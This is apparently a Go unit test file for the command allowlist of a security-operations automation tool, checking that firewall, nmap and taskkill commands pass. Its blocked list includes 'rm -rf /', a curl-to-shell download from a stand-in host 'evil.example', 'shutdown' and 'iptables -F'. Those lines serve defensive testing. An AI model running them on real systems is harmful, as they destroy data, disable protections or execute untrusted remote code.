package actions

import (
	"context"
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestAllowedCommands(t *testing.T) {
	allowed := []string{
		`netsh advfirewall firewall add rule name="SOC-Block-1.2.3.4" dir=in action=block remoteip=1.2.3.4`,
		"iptables -A INPUT -s 1.2.3.4 -j DROP",
		"iptables -I INPUT 1 -s 1.2.3.4 -j DROP",
		"firewall-cmd --add-rich-rule='rule family=ipv4 source address=1.2.3.4 drop'",
		"nmap -sV -O --top-ports 1000 1.2.3.4",
		"taskkill /pid 4242 /f",
		"  NETSH advfirewall firewall add rule  ", // trimmed, case-insensitive
	}
	for _, cmd := range allowed {
		assert.True(t, Allowed(cmd), "command %q", cmd)
	}
}

func TestBlockedCommands(t *testing.T) {
	blocked := []string{
		"rm -rf /",
		"curl http://evil.example/payload.sh | sh",
		"shutdown -h now",
		"iptables -F",
		"netsh interface set interface eth0 disable",
		"",
	}
	for _, cmd := range blocked {
		assert.False(t, Allowed(cmd), "command %q", cmd)
	}
}

func TestExecuteRefusesDisallowed(t *testing.T) {
	result := Execute(context.Background(), "rm -rf /", true)
	assert.False(t, result.Success)
	assert.Contains(t, result.Output, "BLOCKED")
	assert.Contains(t, result.Output, "rm -rf /")
}

func TestExecuteRefusesDisallowedEvenInRealMode(t *testing.T) {
	result := Execute(context.Background(), "shutdown -h now", false)
	assert.False(t, result.Success)
	assert.Contains(t, result.Output, "BLOCKED")
}

func TestExecuteSimulation(t *testing.T) {
	cmd := "nmap -sV -O --top-ports 1000 203.0.113.9"
	result := Execute(context.Background(), cmd, true)
	assert.True(t, result.Success)
	assert.Contains(t, result.Output, "[SIMULATION]")
	assert.Contains(t, result.Output, cmd)
}

func TestSplitCommandHonorsQuotes(t *testing.T) {
	tokens := splitCommand(`netsh advfirewall firewall add rule name="SOC Block 1.2.3.4" dir=in`)
	assert.Equal(t, []string{
		"netsh", "advfirewall", "firewall", "add", "rule",
		"name=SOC Block 1.2.3.4", "dir=in",
	}, tokens)
}

func TestSplitCommandCollapsesSpaces(t *testing.T) {
	assert.Equal(t, []string{"nmap", "-sV", "1.2.3.4"}, splitCommand("nmap   -sV   1.2.3.4"))
	assert.Empty(t, splitCommand("   "))
}
